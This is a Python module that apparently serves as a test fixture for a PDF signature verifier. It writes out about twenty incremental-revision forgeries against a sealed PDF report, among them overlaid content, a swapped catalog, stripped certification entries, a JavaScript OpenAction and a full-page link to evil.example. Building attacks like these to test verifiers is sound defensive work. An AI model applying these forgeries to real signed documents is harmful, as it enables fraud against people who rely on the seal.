"""Ways in which others have forged signed PDFs, done to a sealed report (the families of pdf-insecurity.org: universal
forgery, incremental saving, wrapping; shadow content; and what a reader can be made to choke on)."""

import re
from collections.abc import Callable
from io import BytesIO

import pikepdf

Attack = Callable[[bytes], bytes]

_OVERLAY = b"BT /F1 40 Tf 72 500 Td (99 %) Tj ET"


def appended(pdf: bytes, objects: dict[int, bytes], *, trailer: bytes = b"", root: int | None = None) -> bytes:
    """One more revision with ``objects`` (number -> body), as any editor writes it; ``trailer`` adds entries."""
    size = max(int(last_of(rb"/Size (\d+)", pdf)), *(number + 1 for number in objects or {0: b""}))
    info, kept = last_of(rb"/Info (\d+ 0 R)", pdf), last_of(rb"/Root (\d+ 0 R)", pdf)
    output = bytearray(pdf)
    table = b"xref\n0 1\n0000000000 65535 f \n"
    for number, body in sorted(objects.items()):
        table += b"%d 1\n%010d 00000 n \n" % (number, len(output))
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(output)
    leads = kept if root is None else b"%d 0 R" % root
    output += table + b"trailer\n<<\n/Size %d\n/Root %s\n/Info %s\n/Prev %s\n%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        leads,
        info,
        last_of(rb"startxref\s+(\d+)", pdf),
        trailer,
        start,
    )
    return bytes(output)


def last_of(pattern: bytes, pdf: bytes) -> bytes:
    return bytes(re.findall(pattern, pdf)[-1])


def numbers_of(pdf: bytes) -> tuple[int, int, int, int]:
    """Object numbers of the catalog, the first page, the form and the next free one."""
    with pikepdf.open(BytesIO(pdf)) as document:
        root = document.Root
        return root.objgen[0], document.pages[0].obj.objgen[0], root.AcroForm.objgen[0], len(document.objects) + 1


def body_of(pdf: bytes, number: int) -> bytes:
    with pikepdf.open(BytesIO(pdf)) as document:
        return bytes(document.get_object(number, 0).unparse(resolved=True))


def with_entry(body: bytes, entry: bytes) -> bytes:
    """A dictionary with one more entry, which stands last and so wins over one of the same name in lenient readers."""
    return body.rstrip()[: -len(b">>")] + b" " + entry + b" >>"


def without_entry(body: bytes, name: bytes) -> bytes:
    return body.replace(name, b"/X" + name[1:], 1)


def stream_of(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)


def overlay(pdf: bytes) -> bytes:
    """Paints over the page."""
    _root, page, _form, free = numbers_of(pdf)
    body = re.sub(rb"/Contents (\d+ 0 R)", rb"/Contents [ \1 %d 0 R ]" % free, body_of(pdf, page))
    return appended(pdf, {page: body, free: stream_of(_OVERLAY)})


def other_contents(pdf: bytes) -> bytes:
    """Another page altogether."""
    _root, page, _form, free = numbers_of(pdf)
    body = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % free, body_of(pdf, page))
    return appended(pdf, {page: body, free: stream_of(_OVERLAY)})


def contents_rewritten(pdf: bytes) -> bytes:
    """The same object number, other content."""
    _root, page, _form, _free = numbers_of(pdf)
    number = int(re.findall(rb"/Contents (\d+)", body_of(pdf, page))[0])
    return appended(pdf, {number: stream_of(_OVERLAY)})


def cropped(pdf: bytes) -> bytes:
    """Shows only a part of the page."""
    _root, page, _form, _free = numbers_of(pdf)
    return appended(pdf, {page: with_entry(body_of(pdf, page), b"/CropBox [ 0 0 300 300 ]")})


def turned(pdf: bytes) -> bytes:
    """Upside down."""
    _root, page, _form, _free = numbers_of(pdf)
    return appended(pdf, {page: with_entry(without_entry(body_of(pdf, page), b"/Rotate"), b"/Rotate 180")})


def link_over_the_code(pdf: bytes) -> bytes:
    """A click leads elsewhere."""
    _root, page, _form, free = numbers_of(pdf)
    link = b"<< /Type /Annot /Subtype /Link /Rect [ 0 0 600 840 ] /A << /S /URI /URI (https://evil.example) >> >>"
    body = with_entry(without_entry(body_of(pdf, page), b"/Annots"), b"/Annots [ %d 0 R ]" % free)
    return appended(pdf, {page: body, free: link})


def stamp_annotation(pdf: bytes) -> bytes:
    """A note that looks like a stamp."""
    _root, page, _form, free = numbers_of(pdf)
    note = b"<< /Type /Annot /Subtype /Stamp /Rect [ 72 400 300 500 ] /Name /Approved >>"
    body = with_entry(without_entry(body_of(pdf, page), b"/Annots"), b"/Annots [ %d 0 R ]" % free)
    return appended(pdf, {page: body, free: note})


def script_on_opening(pdf: bytes) -> bytes:
    """Runs when opened."""
    root, _page, _form, _free = numbers_of(pdf)
    return appended(pdf, {root: with_entry(body_of(pdf, root), b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")})


def layers(pdf: bytes) -> bytes:
    """Optional content that can be switched."""
    root, _page, _form, free = numbers_of(pdf)
    body = with_entry(
        body_of(pdf, root), b"/OCProperties << /OCGs [ %d 0 R ] /D << /OFF [ %d 0 R ] >> >>" % (free, free)
    )
    return appended(pdf, {root: body, free: b"<< /Type /OCG /Name (Layer) >>"})


def other_catalog(pdf: bytes) -> bytes:
    """The trailer leads to a catalog that knows nothing of a seal."""
    root, _page, _form, free = numbers_of(pdf)
    body = without_entry(without_entry(body_of(pdf, root), b"/AcroForm"), b"/Perms")
    return appended(pdf, {free: body}, root=free)


def no_permissions(pdf: bytes) -> bytes:
    """The certification is taken out of the catalog."""
    root, _page, _form, _free = numbers_of(pdf)
    return appended(pdf, {root: without_entry(body_of(pdf, root), b"/Perms")})


def no_form(pdf: bytes) -> bytes:
    """The signature field is taken out of the form."""
    _root, _page, form, _free = numbers_of(pdf)
    return appended(pdf, {form: b"<< /Fields [ ] /SigFlags 3 >>"})


def appearances_made_anew(pdf: bytes) -> bytes:
    """Asks the reader to draw the seal itself."""
    _root, _page, form, _free = numbers_of(pdf)
    return appended(pdf, {form: with_entry(body_of(pdf, form), b"/NeedAppearances true")})


def other_first_page(pdf: bytes) -> bytes:
    """A page in front."""
    root, page, _form, free = numbers_of(pdf)
    pages = int(re.findall(rb"/Pages (\d+)", body_of(pdf, root))[0])
    body = re.sub(rb"/Kids \[", b"/Kids [ %d 0 R " % free, body_of(pdf, pages))
    copy = re.sub(rb"/Annots (\[[^\]]*\]|\d+ 0 R)", b"", body_of(pdf, page))
    return appended(pdf, {pages: body, free: copy})


def no_second_page(pdf: bytes) -> bytes:
    """The evidence is gone."""
    root, _page, _form, _free = numbers_of(pdf)
    pages = int(re.findall(rb"/Pages (\d+)", body_of(pdf, root))[0])
    body = re.sub(rb"/Kids \[ (\d+ 0 R) [^\]]*\]", rb"/Kids [ \1 ]", body_of(pdf, pages))
    return appended(pdf, {pages: re.sub(rb"/Count \d+", b"/Count 1", body)})


def other_title(pdf: bytes) -> bytes:
    """Only the document information."""
    info = int(last_of(rb"/Info (\d+) 0 R", pdf))
    return appended(pdf, {info: with_entry(body_of(pdf, info), b"/Title (Another)")})


def empty_revision(pdf: bytes) -> bytes:
    """A revision that changes nothing."""
    return appended(pdf, {})


def encrypted_by_word(pdf: bytes) -> bytes:
    """The trailer claims encryption."""
    return appended(pdf, {}, trailer=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O () /U () /P -4 >>\n")


def removed_object(pdf: bytes) -> bytes:
    """An object is freed."""
    start = len(pdf)
    _root, page, _form, _free = numbers_of(pdf)
    table = b"xref\n%d 1\n0000000000 00001 f \ntrailer\n<<\n"
    entries = b"/Size %s\n/Root %s\n/Info %s\n/Prev %s\n>>\nstartxref\n%d\n%%%%EOF\n"
    return pdf + (table + entries) % (
        page,
        last_of(rb"/Size (\d+)", pdf),
        last_of(rb"/Root (\d+ 0 R)", pdf),
        last_of(rb"/Info (\d+ 0 R)", pdf),
        last_of(rb"startxref\s+(\d+)", pdf),
        start,
    )


def doubled_range(pdf: bytes) -> bytes:
    """A second byte range for whoever reads the last one."""
    return appended(pdf, {numbers_of(pdf)[3]: b"<< /ByteRange [0 1 1 1] >>"})


BY_REVISION: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        overlay,
        other_contents,
        contents_rewritten,
        cropped,
        turned,
        link_over_the_code,
        stamp_annotation,
        script_on_opening,
        layers,
        other_catalog,
        no_permissions,
        no_form,
        appearances_made_anew,
        other_first_page,
        no_second_page,
        other_title,
        empty_revision,
        encrypted_by_word,
        removed_object,
        doubled_range,
    )
}
"""A revision after the last signature."""
